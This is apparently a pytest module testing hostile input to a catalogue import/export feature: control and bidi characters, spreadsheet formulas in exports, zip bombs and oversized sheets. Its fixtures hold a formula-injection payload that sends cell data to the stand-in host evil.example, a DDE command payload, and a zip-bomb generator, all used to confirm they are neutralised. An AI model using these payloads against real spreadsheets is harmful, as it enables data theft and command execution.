"""Hostile catalogue files and hostile content on the way out (issue 16, hostile input).

As in test_catalogue_io.py, errors are asserted by row, column and code, never by wording.
"""

import csv
import io
import re
import time
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from powers.catalogue_io import CatalogueRejected, catalogue_export, catalogue_import
from powers.catalogue_io.reading import MAX_EXPANDED_BYTES
from powers.models import PowerItem
from tests.factories import PowerItemFactory
from tests.powers.test_catalogue_io import (
    CHINESE,
    CODE,
    item_row,
    rejected,
    where,
    write_csv,
    write_xlsx,
)

# --- control characters in cells ----------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("dry_run", [True, False])
@pytest.mark.parametrize(
    ("field", "text"),
    [
        ("name", "食品\x00经营许可"),
        ("code", "XK-\x00-0001"),
        ("department_code", "YG-SJJ\x00"),
        ("legal_basis", "《食品安全法》\x1b[31m第三十五条"),
        ("steps", "受理|窗口人员|1\n审查\x08|审查人员|5"),
        ("conditions", "有场所\x7f"),
        ("name", "食品经营许可\u202egpj.exe"),
    ],
)
def test_a_control_character_in_a_cell_is_a_row_error_and_nothing_is_written(
    tmp_path, editor, department, field, text, dry_run
):
    rows = [item_row(), item_row("XK-YG-SJJ-0002") | {field: text}]

    errors = rejected(write_csv(tmp_path / "c.csv", rows), editor, dry_run=dry_run)

    assert where(errors) == {(3, CHINESE[field], "control_character")}
    assert not PowerItem.objects.exists()


@pytest.mark.django_db
def test_the_error_names_the_character_and_holds_no_control_character_itself(tmp_path, editor, department):
    path = write_csv(tmp_path / "c.csv", [item_row(name="食品\x00经营\u202e许可")])

    (error,) = rejected(path, editor)

    assert "U+0000" in error.message and "U+202E" in error.message
    assert "\x00" not in str(error) and "\u202e" not in str(error)


@pytest.mark.django_db
def test_a_control_character_in_an_unknown_column_is_ignored_like_the_column(tmp_path, editor, department):
    path = tmp_path / "c.csv"
    with open(path, "w", encoding="utf-8-sig", newline="") as stream:
        writer = csv.writer(stream)
        writer.writerow([*CHINESE.values(), "备注"])
        writer.writerow([*item_row().values(), "草稿\x00"])

    summary = catalogue_import(source=path, user=editor)

    assert summary.created == 1


@pytest.mark.django_db
def test_an_xlsx_cell_with_a_bidi_control_is_refused_too(tmp_path, editor, department):
    # XML cannot hold NUL, but it holds U+202E (RIGHT-TO-LEFT OVERRIDE) and U+0085 well.
    path = write_xlsx(tmp_path / "c.xlsx", [item_row(name="食品经营许可\u202egpj.exe", conditions="有\x85场所")])

    errors = rejected(path, editor)

    assert where(errors) == {(2, CHINESE["name"], "control_character"), (2, CHINESE["conditions"], "control_character")}


@pytest.mark.django_db
def test_an_export_of_a_catalogue_holding_a_stored_control_character_does_not_fail(tmp_path, department):
    # Only SQLite stores NUL; PostgreSQL refuses it, so there is nothing to export there.
    item = PowerItemFactory(code=CODE, department=department, published=True)
    PowerItem.objects.filter(pk=item.pk).update(name="食品\x1b经营许可")

    catalogue_export(tmp_path / "c.xlsx", fmt="xlsx")

    assert load_workbook(tmp_path / "c.xlsx").active["B2"].value == "食品\ufffd经营许可"


# --- formulas in exports ------------------------------------------------------------------------

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"点此领取")',
    "conditions": "@SUM(1)",
    "rights": "+1+cmd|' /C calc'!A0",
    "complaint_channel": "-2+3",
}


@pytest.fixture
def formula_item(department):
    return PowerItemFactory(code=CODE, department=department, published=True, **FORMULAS)


def _exported(tmp_path, fmt: str) -> dict[str, object]:
    path = tmp_path / f"c.{fmt}"
    catalogue_export(path, fmt=fmt)
    if fmt == "csv":
        header, row = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
        return dict(zip(header, row, strict=True))
    sheet = load_workbook(path).active
    header, row = sheet.iter_rows(max_row=2)
    return {title.value: cell for title, cell in zip(header, row, strict=True)}


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_catalogue_text_that_starts_like_a_formula_is_exported_inert(tmp_path, formula_item, fmt):
    cells = _exported(tmp_path, fmt)

    for field, text in FORMULAS.items():
        cell = cells[CHINESE[field]]
        if fmt == "xlsx":
            assert cell.data_type == "s"  # a string cell, never a formula
            cell = cell.value
        assert cell == "'" + text
    legal_days = cells[CHINESE["legal_days"]]
    assert (legal_days.value, legal_days.data_type) == (20, "n") if fmt == "xlsx" else legal_days == "20"


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_neutralised_export_imports_back_unchanged(tmp_path, superuser, formula_item, fmt):
    catalogue_export(tmp_path / f"c.{fmt}", fmt=fmt)

    summary = catalogue_import(source=tmp_path / f"c.{fmt}", user=superuser)

    assert (summary.unchanged, summary.new_versions) == (1, 0)
    assert PowerItem.objects.published().get(code=CODE).name == FORMULAS["name"]


@pytest.mark.django_db
def test_a_quote_typed_before_ordinary_text_is_kept_on_import(tmp_path, editor, department):
    path = write_csv(tmp_path / "c.csv", [item_row(conditions="'有场所", name="'=中文名")])

    catalogue_import(source=path, user=editor)

    item = PowerItem.objects.published().get(code=CODE)
    assert (item.conditions, item.name) == ("'有场所", "=中文名")


# --- limits ---------------------------------------------------------------------------------------


def _with_sheet(path: Path, write_sheet) -> Path:
    """The workbook at ``path`` with its first sheet's XML replaced by what ``write_sheet`` writes."""
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for name, content in parts.items():
            if name == "xl/worksheets/sheet1.xml":
                with target.open(name, "w", force_zip64=True) as stream:
                    write_sheet(stream)
            else:
                target.writestr(name, content)
    return path


def _measured(function):
    """What ``function`` raised, how long it took and the peak of Python memory it allocated."""
    tracemalloc.start()
    started = time.monotonic()
    try:
        with pytest.raises(CatalogueRejected) as refusal:
            function()
        return refusal.value.errors, time.monotonic() - started, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.django_db
def test_a_zip_bomb_is_refused_before_it_is_unpacked(tmp_path, editor, department):
    def sheet(stream):
        stream.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
        chunk = b"<row><c t='inlineStr'><is><t>" + b"A" * 1000 + b"</t></is></c></row>"
        for _ in range(300_000):  # 300 MB of XML, a few hundred KB zipped
            stream.write(chunk)
        stream.write(b"</sheetData></worksheet>")

    path = _with_sheet(write_xlsx(tmp_path / "c.xlsx", [item_row()]), sheet)
    assert path.stat().st_size < 2_000_000

    errors, seconds, peak = _measured(lambda: catalogue_import(source=path, user=editor, dry_run=True))

    assert where(errors) == {(None, "", "too_large")}
    assert seconds < 5 and peak < 20_000_000


@pytest.mark.django_db
def test_a_sheet_claiming_a_million_rows_is_read_quickly_and_trailing_blank_rows_are_ignored(
    tmp_path, editor, department
):
    path = write_xlsx(tmp_path / "c.xlsx", [item_row()])
    with zipfile.ZipFile(path) as source:
        xml = source.read("xl/worksheets/sheet1.xml")
    head, rest = xml.split(b"<sheetData>")
    head = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', head)
    rows, tail = rest.split(b"</sheetData>")

    def sheet(stream):
        stream.write(head + b"<sheetData>" + rows)
        for number in range(3, 200_003):
            stream.write(b'<row r="%d"/>' % number)
        stream.write(b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t></t></is></c></row>')
        stream.write(b"</sheetData>" + tail)

    started = time.monotonic()
    summary = catalogue_import(source=_with_sheet(path, sheet), user=editor, dry_run=True)

    assert (summary.rows, summary.created) == (1, 1)
    assert time.monotonic() - started < 30


@pytest.mark.django_db
def test_an_item_row_past_the_row_limit_is_refused_with_its_row(tmp_path, editor, department):
    path = write_xlsx(tmp_path / "c.xlsx", [item_row()])
    workbook = load_workbook(path)
    workbook.active["A1048576"] = "XK-FAR-AWAY"
    workbook.save(path)

    errors, _seconds, peak = _measured(lambda: catalogue_import(source=path, user=editor, dry_run=True))

    # A million blank rows in between are skipped, not held: memory stays flat.
    assert where(errors) == {(1048576, "", "too_many_rows")}
    assert peak < 50_000_000


@pytest.mark.django_db
@pytest.mark.parametrize("write", [write_csv, write_xlsx])
def test_a_cell_of_40000_characters_is_refused_with_its_row_and_column(tmp_path, editor, department, write):
    path = write(tmp_path / f"c.{write.__name__[-4:]}", [item_row(), item_row("XK-2", conditions="长" * 40_000)])

    errors = rejected(path, editor, dry_run=True)

    assert where(errors) == {(3, CHINESE["conditions"], "cell_too_long")}


@pytest.mark.django_db
def test_a_row_wider_than_the_column_limit_is_refused(tmp_path, editor, department):
    path = write_xlsx(tmp_path / "c.xlsx", [item_row()])
    workbook = load_workbook(path)
    workbook.active["XFD2"] = "备注"
    workbook.save(path)

    assert where(rejected(path, editor)) == {(2, "", "too_many_columns")}


@pytest.mark.django_db
def test_a_csv_file_over_the_size_limit_is_refused_without_being_read_whole(tmp_path, editor, department):
    path = write_csv(tmp_path / "c.csv", [item_row()])
    with open(path, "ab") as stream:
        stream.write(b"\r\n" * (MAX_EXPANDED_BYTES // 2 + 1))

    assert where(rejected(path, editor)) == {(None, "", "too_large")}


# --- codes stored as numbers --------------------------------------------------------------------


@pytest.mark.django_db
def test_a_code_stored_as_a_number_in_xlsx_is_refused_with_its_row(tmp_path, editor, department):
    path = write_xlsx(tmp_path / "c.xlsx", [item_row(), item_row("XK-2")])
    workbook = load_workbook(path)
    workbook.active["A3"] = 524018000  # typed as 000524018000 into a General column
    workbook.save(path)

    errors = rejected(path, editor, dry_run=True)

    assert where(errors) == {(3, CHINESE["code"], "numeric_code")}
    assert "524018000" in errors[0].message


@pytest.mark.django_db
def test_numbers_stay_welcome_where_numbers_belong(tmp_path, editor, department):
    path = write_xlsx(tmp_path / "c.xlsx", [item_row()])
    workbook = load_workbook(path)
    workbook.active["H2"], workbook.active["I2"] = 20, 10.0
    workbook.save(path)

    assert catalogue_import(source=path, user=editor).created == 1
